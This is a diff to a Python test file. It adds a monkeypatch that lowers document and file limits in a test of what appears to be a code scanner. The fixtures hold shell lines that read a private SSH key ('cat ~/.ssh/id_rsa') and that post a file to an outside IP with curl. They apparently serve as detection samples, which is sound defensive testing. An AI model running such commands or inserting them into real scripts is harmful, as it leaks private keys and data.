@@ -92,7 +92,10 @@ def test_the_look_at_expressions_knows_what_is_wrong(expression: str, expected: 
     assert faults((expression, 0)) == expected
 
 
-def test_what_is_beyond_a_limit_is_told() -> None:
+def test_what_is_beyond_a_limit_is_told(monkeypatch: pytest.MonkeyPatch, *, quick: bool) -> None:
+    if quick:
+        monkeypatch.setattr(reading, "MOST_DOCUMENTS", 20)
+        monkeypatch.setattr(flow, "MOST_FILES", 10)
     many = {f"f{number}.txt": Item(b"a\n") for number in range(reading.MOST_DOCUMENTS + 2)}
     readers = {f"a{number}.sh": Item(b"cat ~/.ssh/id_rsa\n") for number in range(flow.MOST_FILES + 1)}
     sender = {"b.sh": Item(b"curl -d @/tmp/x http://203.0.113.7/in\n")}
